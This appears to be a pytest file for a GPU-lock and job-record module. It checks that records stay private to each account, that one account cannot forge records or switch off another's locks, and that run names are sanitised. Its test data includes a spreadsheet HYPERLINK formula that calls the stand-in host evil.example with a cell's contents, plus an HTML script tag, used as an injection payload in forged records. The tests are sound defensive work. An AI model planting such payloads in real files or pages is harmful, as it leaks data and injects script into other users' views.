"""Job records and GPU locks against the other runs and the other accounts of a host.

a. Records are keyed on the run (its name and working directory), so two runs in one checkout count
   each other; a cell job hands its run's name to the cell runner, through the warm worker too.
b. Records are this account's own: in a private directory (0700, ours), each 0600, never read from a
   directory another account can write. Another account's forged records count for nothing, write no
   text into rows and cost a look no more than this account's own records do. Another account's job
   counts only where the kernel says it holds a lock of one of this host's GPUs; the record it writes
   in a lock file it holds reaches a row (a timeout naming the holder) only as plain words.
c. Another account that makes the shared lock directory first cannot switch the GPU lock off: this
   account's jobs still exclude each other through a lock directory of their own.
"""

from __future__ import annotations

import fcntl
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from cs336sys.pipeline import cells, gpulock, hostjobs, warm, warmcheck
from cs336sys.pipeline.cells import run_cell
from cs336sys.pipeline.gpulock import GpuId
from other_account import fork_as
from test_gpulock_hostile import SRC, TESTS, _mkdir_open, as_user, make_cell, shared_locks, use_locks

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'


@pytest.fixture
def fake_gpus(monkeypatch):
    monkeypatch.setenv("CS336SYS_FAKE_GPUS", "fake-0,fake-1")
    monkeypatch.delenv(cells.FAULT_ENV, raising=False)


def _records(folder: Path) -> list[Path]:
    return sorted(folder.rglob("job-*.json"))


# ---------------------------------------------------------------- a. keyed on the run


def test_a_jobs_record_is_private_to_its_account(tmp_path, monkeypatch):
    locks = use_locks(monkeypatch, tmp_path / "locks")
    with hostjobs.register_job(run="h100") as job:
        assert job is not None
        (record,) = _records(tmp_path)
        assert record.parent != locks, "the record lies in the directory every account shares"
        folder = record.parent.stat()
        assert stat.S_IMODE(record.stat().st_mode) == 0o600 and record.stat().st_uid == os.geteuid()
        assert stat.S_IMODE(folder.st_mode) == 0o700 and folder.st_uid == os.geteuid()
    assert _records(tmp_path) == []


def test_a_cell_job_names_its_run_to_the_cell_runner(tmp_path, monkeypatch):
    seen = {}

    def fake_run_cell(cell, **kwargs):
        seen.update(kwargs)
        return [{"study": "unit", "cell_id": "x=1", "status": "ok", "error": ""}]

    monkeypatch.setattr(cells, "run_cell", fake_run_cell)
    cell = {"study": "unit", "cell_id": "x=1", "axes": {"x": 1}, "target": "unit:measure"}
    warm.run_job(cell, 60.0, str(tmp_path / "x.csv"), str(tmp_path / "x.log"), warm=False, run="h100")
    assert seen.get("run") == "h100"


@pytest.mark.parametrize("given, kept", [("h100-2", "h100-2"), (FORMULA, ""), (7, ""), (None, "")])
def test_the_warm_worker_takes_a_run_name_and_the_replace_switch_checked(tmp_path, monkeypatch, given, kept):
    from cs336sys.studies import STUDIES

    study = next(iter(STUDIES.values()))
    cell = {"study": study.name, "cell_id": "c", "axes": {}, "target": study.measure}
    request = {"pid": os.getpid(), "cwd": str(tmp_path), "timeout_s": 5, "env": {}, "output": "x.csv", "log": "x.log", "cell": cell}
    request |= {"run": given, "replace": "yes"}
    job_end, server_end = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    with job_end, server_end:
        job_end.sendall(json.dumps(request).encode() + b"\n")
        _, checked = warmcheck.checked_request(server_end)
    assert checked["run"] == kept
    assert checked["replace"] is False  # only a JSON true asks for it


def measure_until(device, context, session, marker, until, **axes):
    """A measurement that lasts until the test says so (the file ``until``), after saying it started (``marker``)."""
    context["mode"] = "inference"
    Path(marker).touch()
    while not Path(until).exists():
        time.sleep(0.05)
    yield {"mode": "inference"}


HOLD = """
import json, sys
sys.path[:0] = [sys.argv[1], sys.argv[2]]
from cs336sys.pipeline.cells import Cell, run_cell
cell = Cell("unit", "x=2", {"x": 2}, "test_job_records:measure_until", {"marker": sys.argv[3], "until": sys.argv[4]}, device="cpu")
print(json.dumps(run_cell(cell, start_method="fork", run=sys.argv[5]), default=str))
"""


@pytest.mark.slow
def test_two_runs_in_one_checkout_count_each_other(tmp_path, fake_gpus, monkeypatch):
    use_locks(monkeypatch, tmp_path / "locks")
    monkeypatch.chdir(tmp_path)  # one working directory, two run names
    marker, until = tmp_path / "b-measuring", tmp_path / "b-may-end"
    env = {**os.environ, "PYTHONPATH": SRC}
    args = [sys.executable, "-c", HOLD, SRC, TESTS, str(marker), str(until), "run-b"]
    other = subprocess.Popen(args, env=env, stdout=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not marker.exists():
            assert other.poll() is None and time.monotonic() < deadline, other.communicate()
            time.sleep(0.02)
        (a,) = run_cell(make_cell(s=1.5), run="run-a")
        until.touch()
        out, _ = other.communicate(timeout=60)
    finally:
        until.touch()
        if other.poll() is None:
            other.kill()
            other.wait()
    (b,) = json.loads(out.strip().splitlines()[-1])
    assert a["status"] == b["status"] == "ok" and {a["gpu_uuid"], b["gpu_uuid"]} == {"fake-0", "fake-1"}
    assert a["concurrent_jobs"] == 1 and a["concurrent_runs"].startswith("run-b ") and str(tmp_path) in a["concurrent_runs"], a
    assert b["concurrent_jobs"] == 1 and b["concurrent_runs"].startswith("run-a "), b
    (alone,) = run_cell(make_cell(s=0.2), run="run-a")  # the same run's own jobs never count
    assert alone["concurrent_jobs"] == 0, alone


# ---------------------------------------------------------------- b. another account's records


def _forge_records(locks: str, n: int, ready: str) -> None:
    """As the other account: ``n`` well-formed records with formula and HTML text, held by this live process."""
    host, fds = socket.gethostname(), []
    for i in range(n):
        record = {"pid": os.getpid(), "user": "victim", "host": host, "run": FORMULA, "state": "running", "since": time.time()}
        fd = os.open(os.path.join(locks, f"job-{host}-{os.getpid()}-{i}.json"), os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o644)
        os.write(fd, json.dumps(record).encode().ljust(8192))
        fcntl.flock(fd, fcntl.LOCK_EX)
        fds.append(fd)
    Path(ready).touch()
    time.sleep(120)


def _try_writing_in(folder: str, out: str) -> None:
    try:
        fd = os.open(os.path.join(folder, "job-forged-1-1.json"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError as exc:
        Path(out).write_text(type(exc).__name__)
    else:
        os.close(fd)
        Path(out).write_text("written")


def _wait_for(path: Path, within_s: float = 60) -> None:
    deadline = time.monotonic() + within_s
    while not path.exists():
        assert time.monotonic() < deadline, f"{path} never appeared"
        time.sleep(0.02)


@pytest.fixture
def forger(other_user, shared_base):
    """Start the other account's process that holds forged records; stops it after the test."""
    pids = []

    def start(locks: Path, n: int) -> None:
        ready = shared_base / f"forged-{len(pids)}"
        pids.append(fork_as(other_user, _forge_records, str(locks), n, str(ready)))
        _wait_for(ready)

    yield start
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)


@pytest.mark.slow
def test_forged_records_of_another_account_count_for_nothing_and_cost_nothing(other_user, shared_base, forger, fake_gpus, monkeypatch):
    locks = shared_locks(monkeypatch, shared_base / "locks")  # root's, sticky and world-writable: the directory every account shares
    forger(locks, 500)
    with hostjobs.register_job(run="mine"):  # our own private directory: the other account cannot write there
        (own,) = {p.parent for p in _records(shared_base) if p.parent != locks}
        answer = shared_base / "answer"
        as_user(other_user, _try_writing_in, str(own), str(answer))
        assert answer.read_text() != "written"
    opened = []
    real_open = os.open
    monkeypatch.setattr(os, "open", lambda *a, **k: opened.append(a[0]) or real_open(*a, **k))
    watch = hostjobs.ConcurrencyWatch(run="elsewhere")
    watch.look(force=True)
    monkeypatch.setattr(os, "open", real_open)
    assert len(opened) < 20, f"one look opened {len(opened)} files"
    assert watch.columns() == {"concurrent_jobs": 0, "concurrent_runs": ""}
    (row,) = run_cell(make_cell(s=1.5), run="mine")
    assert row["status"] == "ok" and row["concurrent_jobs"] == 0, row
    assert not any("HYPERLINK" in str(v) or "<script" in str(v) for v in row.values()), row


def _hold_gpu_as_other(locks: str, ready: str) -> None:
    os.environ["CS336SYS_LOCK_DIR"] = locks
    os.environ["CS336SYS_FAKE_GPUS"] = "fake-0,fake-1"
    with gpulock.acquire_gpu([GpuId(1, "fake-1")]) as lease:
        lease.path.write_text(json.dumps({"pid": os.getpid(), "run": FORMULA}))  # its own file: any text it likes
        Path(ready).touch()
        time.sleep(120)


@pytest.mark.slow
def test_another_accounts_job_on_another_gpu_of_this_host_counts_and_says_no_more(other_user, shared_base, fake_gpus, monkeypatch):
    locks = shared_locks(monkeypatch, shared_base / "locks")
    ready = shared_base / "holding"
    pid = fork_as(other_user, _hold_gpu_as_other, str(locks), str(ready))
    try:
        _wait_for(ready)
        (row,) = run_cell(make_cell(s=1.5), run="mine")
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    assert row["gpu_uuid"] == "fake-0" and row["gpu_lock"] == "held", row
    assert row["concurrent_jobs"] == 1 and "GPU 1" in row["concurrent_runs"] and "another account" in row["concurrent_runs"], row
    assert not any("HYPERLINK" in str(v) or "<script" in str(v) for v in row.values()), row


def test_a_lock_holders_record_reaches_a_timeout_row_only_as_plain_words(tmp_path, monkeypatch):
    # whoever holds a shared lock file writes its record; a job that times out waiting names the holder in its row
    monkeypatch.setenv("CS336SYS_FAKE_GPUS", "fake-0")
    use_locks(monkeypatch, tmp_path / "locks")
    with gpulock.acquire_gpu() as lease:
        lease.path.write_text(json.dumps({"pid": 4242, "user": FORMULA, "run": FORMULA, "host": "<b>h</b>", "start": "=1+1"}))
        with pytest.raises(TimeoutError) as info:
            with gpulock.acquire_gpu(timeout_s=0.1, poll_s=0.02):
                pass
    message = str(info.value)
    assert "pid 4242" in message, message
    assert not any(c in message for c in '<>"=&'), message


# ---------------------------------------------------------------- c. a lock that another account cannot switch off


@pytest.mark.slow  # starts a process
def test_a_shared_lock_directory_made_first_by_another_account_does_not_switch_the_lock_off(other_user, shared_base, monkeypatch):
    monkeypatch.setenv("CS336SYS_FAKE_GPUS", "fake-0")
    locks = use_locks(monkeypatch, shared_base / "locks")
    as_user(other_user, _mkdir_open, str(locks))
    with gpulock.acquire_gpu(timeout_s=1.0) as lease:
        note = getattr(lease, "note", "")
        assert note.startswith("held") and "this account" in note and str(locks) in note and other_user.pw_name in note, note
        with pytest.raises(TimeoutError):  # a second job of this account waits: the lock still holds
            with gpulock.acquire_gpu(timeout_s=0.2, poll_s=0.05):
                pass
    assert list(locks.iterdir()) == [], "a file was made in the other account's directory"


@pytest.mark.slow  # starts a process
def test_and_where_it_also_took_this_accounts_own_directory_the_home_one_holds(other_user, shared_base, tmp_path, monkeypatch):
    monkeypatch.setenv("CS336SYS_FAKE_GPUS", "fake-0")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    locks = use_locks(monkeypatch, shared_base / "locks")
    as_user(other_user, _mkdir_open, str(locks))
    as_user(other_user, _mkdir_open, f"{locks}-{os.geteuid()}")
    with gpulock.acquire_gpu(timeout_s=1.0) as lease:
        assert str(tmp_path / "home") in str(lease.path), lease
        with pytest.raises(TimeoutError):
            with gpulock.acquire_gpu(timeout_s=0.2, poll_s=0.05):
                pass
    with hostjobs.register_job(run="mine") as job:
        assert job is not None and _records(tmp_path / "home"), "no record where the lock went"
